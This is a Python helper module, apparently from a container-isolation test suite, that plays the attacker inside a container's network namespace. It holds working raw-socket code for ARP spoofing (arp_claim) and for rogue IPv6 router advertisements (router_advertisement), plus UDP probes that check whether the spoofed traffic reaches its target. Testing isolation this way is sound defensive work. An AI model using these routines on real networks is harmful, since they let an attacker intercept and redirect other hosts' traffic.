"""Packets made by hand inside a container's network namespace, with rights that no container has: the attacker's side.

Each function runs this very file there, so that nothing but Python is needed inside.
"""
import socket
import struct
import subprocess
import sys

ETHERTYPE_ARP = 0x0806
ETHERTYPE_IPV6 = 0x86DD


def inside(pid, *arguments, timeout=30):
    """Runs one of the commands at the end of this file in the namespace of a process; what it printed."""
    done = subprocess.run(["nsenter", "-t", str(pid), "-n", sys.executable, __file__, *map(str, arguments)],
                          capture_output=True, text=True, timeout=timeout)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def listen(pid, family, port, seconds):
    """Starts a listener for one datagram; its communicate() gives `got TEXT` or `nothing`."""
    process = subprocess.Popen(["nsenter", "-t", str(pid), "-n", sys.executable, __file__, "listen", str(family), str(port), str(seconds)],
                               stdout=subprocess.PIPE, text=True)
    assert process.stdout.readline().strip() == "ready"
    return process


def mac_bytes(text):
    return bytes.fromhex(text.replace(":", ""))


def interface_mac(sock):
    return sock.getsockname()[4]


def raw(ethertype):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ethertype))
    sock.bind(("eth0", ethertype))
    return sock


def arp_claim(claimed, victim, victim_mac):
    """An unasked ARP answer that says: this address is at my MAC."""
    sock = raw(ETHERTYPE_ARP)
    mine = interface_mac(sock)
    packet = struct.pack("!6s6sH", mac_bytes(victim_mac), mine, ETHERTYPE_ARP) + struct.pack(
        "!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mine, socket.inet_aton(claimed), mac_bytes(victim_mac), socket.inet_aton(victim))
    for _ in range(5):
        sock.send(packet)


def router_advertisement(prefix):
    """Announces itself as the IPv6 router of everyone."""
    sock = raw(ETHERTYPE_IPV6)
    mine = interface_mac(sock)
    source = b"\xfe\x80" + bytes(6) + bytes([mine[0] ^ 2]) + mine[1:3] + b"\xff\xfe" + mine[3:]
    target = socket.inet_pton(socket.AF_INET6, "ff02::1")
    option = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, prefix))
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + option
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB16s16s", 6 << 28, len(body), 58, 255, source, target)
    frame = bytes.fromhex("333300000001") + mine + struct.pack("!H", ETHERTYPE_IPV6) + header + body
    for _ in range(5):
        sock.send(frame)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(family, source_port, address, port, text):
    sock = socket.socket(socket.AF_INET6 if family == "6" else socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("", int(source_port)))
    for _ in range(3):
        sock.sendto(text.encode(), (address, int(port)))


def wait_for_datagram(family, port, seconds):
    sock = socket.socket(socket.AF_INET6 if family == "6" else socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("", int(port)))
    sock.settimeout(float(seconds))
    print("ready", flush=True)
    try:
        print("got", sock.recv(1500).decode())
    except TimeoutError:
        print("nothing")


if __name__ == "__main__":
    {"arp": arp_claim, "advertise": router_advertisement, "send": send, "listen": wait_for_datagram}[sys.argv[1]](*sys.argv[2:])
